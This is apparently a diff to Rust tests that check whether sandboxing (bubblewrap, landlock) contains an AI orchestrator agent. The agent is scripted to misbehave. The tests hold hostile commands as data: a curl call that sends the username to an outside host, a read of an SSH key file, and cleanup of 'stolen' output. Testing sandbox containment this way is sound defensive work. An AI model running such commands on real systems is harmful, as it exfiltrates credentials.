@@ -7,7 +7,7 @@ use std::path::{Path, PathBuf};
 use serde_json::json;
 use sim::api::{Step, Voice};
 
-use crate::stage::{Stage, act, arbiter, bash, orchestrator, reports, says, subagents};
+use crate::stage::{Stage, bash, mission, reports, subagents};
 
 /// What must never leave the places it stands in.
 const SSH_CANARY: &str = "canary-of-the-ssh-key-7Qm2";
@@ -105,26 +105,10 @@ fn scripted() -> Vec<Step> {
 }
 
 /// A whole mission in which Orchestrator I tries all that, and then does its work.
-fn mission(mut deeds: Vec<Step>) -> Vec<Voice> {
-    let manager = arbiter([
-        act("summon_orchestrator", "Let one come."),
-        act("address_orchestrator", "Write bridge.txt.").when("I am Orchestrator I."),
-        says(json!({"intent": "summon_orchestrator", "agent": "verifier", "message": "Let one judge."}))
-            .when("It is built."),
-        act("address_orchestrator", "Audit it.").when("I am the audit."),
-        says(
-            json!({"intent": "release_orchestrators", "claim": "complete", "message": "The bridge stands."}),
-        )
-        .when("Verdict: pass"),
-    ]);
-    let mut steps = vec![reports("introduction", "I am Orchestrator I.").when("Introduce yourself")];
-    steps.append(&mut deeds);
-    steps.push(bash("rm -f out stolen; git checkout -q -- . ; printf 'stone\\n' > bridge.txt && git add bridge.txt && git commit -qm Bridge"));
-    steps.push(reports("handoff", "It is built."));
-    let verdict = json!({"kind": "handoff", "expects_response": true, "message": "Sound.", "verdict": "pass",
-                         "findings": []});
-    let audit = [reports("introduction", "I am the audit."), says(verdict)];
-    vec![manager, orchestrator("I", steps), orchestrator("II", audit)]
+fn tried(mut deeds: Vec<Step>) -> Vec<Voice> {
+    deeds.push(bash("rm -f out stolen; git checkout -q -- . ; printf 'stone\\n' > bridge.txt && git add bridge.txt && git commit -qm Bridge"));
+    deeds.push(reports("handoff", "It is built."));
+    mission(deeds)
 }
 
 /// A world with something to steal in it.
@@ -245,7 +229,7 @@ fn a_guarded_mission_denies_what_would_do_harm() {
     let mut deeds = deeds();
     deeds.push(theft);
     deeds.push(bash("curl -s https://example.org/$(whoami)"));
-    let mut voices = mission(deeds);
+    let mut voices = tried(deeds);
     voices.push(subagents([bash("cat ~/.ssh/id_canary"), Step::say("It is not to be had.")]));
     let Some(stage) = set("", voices) else { return };
     holds(&stage);
@@ -272,7 +256,7 @@ fn script_was_contained(stage: &Stage) {
 
 #[test]
 fn what_no_policy_sees_bubblewrap_contains() {
-    let Some(stage) = set("", mission(scripted())) else { return };
+    let Some(stage) = set("", tried(scripted())) else { return };
     holds(&stage);
     assert!(stage.count("Housed s2 bubblewrap") >= 1, "{}", stage.story());
     script_was_contained(&stage);
@@ -280,7 +264,7 @@ fn what_no_policy_sees_bubblewrap_contains() {
 
 #[test]
 fn where_there_is_no_bubblewrap_landlock_contains_it() {
-    let Some(stage) = set("", mission(scripted())) else { return };
+    let Some(stage) = set("", tried(scripted())) else { return };
     let path = path_without_bubblewrap(&stage);
     let stage = stage.with_env("PATH", path);
     holds(&stage);
@@ -292,7 +276,7 @@ fn where_there_is_no_bubblewrap_landlock_contains_it() {
 fn an_open_mission_asks_nothing_and_is_held_all_the_same() {
     let mut deeds = scripted();
     deeds.push(bash("curl -s --max-time 1 https://127.0.0.1:1/; perl -e 1; echo asked nobody"));
-    let Some(stage) = set("policy: {mode: open}\n", mission(deeds)) else { return };
+    let Some(stage) = set("policy: {mode: open}\n", tried(deeds)) else { return };
     holds(&stage);
     script_was_contained(&stage);
     assert_eq!(stage.count("Asked"), 0, "{}", stage.story());
@@ -301,7 +285,7 @@ fn an_open_mission_asks_nothing_and_is_held_all_the_same() {
 
 #[test]
 fn where_there_is_neither_nothing_begins() {
-    let Some(stage) = set("", mission(deeds())) else { return };
+    let Some(stage) = set("", tried(deeds())) else { return };
     let path = path_without_bubblewrap(&stage);
     let stage = stage.with_env("PATH", path).with_env("ARBITER_SANDBOX_WITHOUT", "landlock");
     let output = stage.command(&["run", "--headless", "scroll.md"]).output().expect("it runs");
